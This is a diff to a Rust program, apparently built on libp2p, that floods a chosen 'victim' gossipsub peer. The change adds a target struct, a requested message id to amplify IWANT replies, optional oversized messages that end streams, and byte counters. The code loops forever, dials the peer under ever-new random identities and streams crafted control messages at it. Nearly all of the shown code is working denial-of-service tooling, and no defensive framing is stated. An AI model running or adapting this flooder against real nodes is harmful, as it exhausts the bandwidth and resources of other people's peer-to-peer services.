@@ -11,8 +11,10 @@ use std::time::Duration;
 
 /// The version that has all of them.
 const GOSSIP: StreamProtocol = StreamProtocol::new("/meshsub/1.2.0");
-/// Ids in one message: as many as are read of it, and more than that.
+/// Ids in one message: as many as are read of it, and more than a message may have.
 const IDS: [u64; 3] = [8, 200, 1_500];
+/// What may be under way to who reads nothing: the window of a stream.
+const WINDOW: u64 = 256 * 1024;
 /// Who is not read from for so long goes on under another name.
 const UNREAD: Duration = Duration::from_millis(500);
 /// Time to say hello again under another name.
@@ -22,6 +24,20 @@ const PAUSE: Duration = Duration::from_millis(50);
 pub static SENT: AtomicU64 = AtomicU64::new(0);
 /// See [`SENT`].
 pub static CAME: AtomicU64 = AtomicU64::new(0);
+/// Bytes beyond what a stream holds unread: so much was read for sure.
+pub static READ: AtomicU64 = AtomicU64::new(0);
+
+/// Where to flood, and with what.
+#[derive(Clone)]
+pub struct Aim {
+    pub target: Multiaddr,
+    pub victim: PeerId,
+    pub topic: String,
+    /// The name of a message that the victim has: asked for again and again, under ever new names.
+    pub message: Vec<u8>,
+    /// Also messages that are too long, which end the stream.
+    pub long: bool,
+}
 
 fn varint(mut n: usize, out: &mut Vec<u8>) {
     while n >= 0x80 {
@@ -43,16 +59,17 @@ fn id(seed: u64) -> Vec<u8> {
 }
 
 /// An RPC with one kind of control message.
-fn control(topic: &str, seed: u64) -> Vec<u8> {
-    let count = IDS[(seed / 5 % 3) as usize];
+fn control(aim: &Aim, seed: u64) -> Vec<u8> {
+    let kinds = if aim.long { IDS.len() as u64 } else { 2 };
+    let count = IDS[(seed / 5 % kinds) as usize];
     let ids = |number: u8| -> Vec<u8> {
         (0..count).flat_map(|n| field(number, &id(seed << 16 | n))).collect()
     };
-    let topic = field(1, topic.as_bytes());
+    let topic = field(1, aim.topic.as_bytes());
     let body = match seed % 5 {
         // IHAVE, IWANT, GRAFT, PRUNE with peers to go to, IDONTWANT.
         0 => field(1, &[topic, ids(2)].concat()),
-        1 => field(2, &ids(1)),
+        1 => field(2, &[field(1, &aim.message), ids(1)].concat()),
         2 => (0..count).flat_map(|_| field(3, &topic)).collect(),
         3 => {
             let peer = field(2, &field(1, &PeerId::random().to_bytes()));
@@ -67,7 +84,7 @@ fn control(topic: &str, seed: u64) -> Vec<u8> {
 }
 
 /// One name's life: until it is refused.
-async fn live(target: &Multiaddr, victim: PeerId, topic: &str, seed: &mut u64) -> Option<()> {
+async fn live(aim: &Aim, seed: &mut u64) -> Option<()> {
     let mut swarm = SwarmBuilder::with_new_identity()
         .with_tokio()
         .with_tcp(tcp::Config::default(), noise::Config::new, yamux::Config::default)
@@ -80,21 +97,26 @@ async fn live(target: &Multiaddr, victim: PeerId, topic: &str, seed: &mut u64) -
     let mut streams = swarm.behaviour().new_control();
     // What it sends us on a stream of its own is counted: the answers to IWANT.
     let mut incoming = streams.accept(GOSSIP).ok()?;
-    swarm.dial(target.clone()).ok()?;
+    swarm.dial(aim.target.clone()).ok()?;
     let talk = async {
         let mut out = loop {
-            match streams.open_stream(victim, GOSSIP).await {
+            match streams.open_stream(aim.victim, GOSSIP).await {
                 Ok(stream) => break stream,
                 Err(_) => tokio::time::sleep(PAUSE).await,
             }
         };
-        let subscribe = field(1, &[vec![1 << 3, 1], field(2, topic.as_bytes())].concat());
+        let subscribe = field(1, &[vec![1 << 3, 1], field(2, aim.topic.as_bytes())].concat());
         out.write_all(&[vec![subscribe.len() as u8], subscribe].concat()).await.ok()?;
+        let mut sent = 0;
         loop {
             *seed += 1;
-            let message = control(topic, *seed);
+            let message = control(aim, *seed);
             tokio::time::timeout(UNREAD, out.write_all(&message)).await.ok()?.ok()?;
             SENT.fetch_add(1, Relaxed);
+            sent += message.len() as u64;
+            if sent > WINDOW {
+                READ.fetch_add((sent - WINDOW).min(message.len() as u64), Relaxed);
+            }
         }
     };
     let hear = async {
@@ -129,9 +151,9 @@ async fn live(target: &Multiaddr, victim: PeerId, topic: &str, seed: &mut u64) -
 }
 
 /// Floods until it is ended.
-pub async fn run(target: Multiaddr, victim: PeerId, topic: String, mut seed: u64) {
+pub async fn run(aim: Aim, mut seed: u64) {
     loop {
-        let _ = live(&target, victim, &topic, &mut seed).await;
+        let _ = live(&aim, &mut seed).await;
         tokio::time::sleep(PAUSE).await;
     }
 }
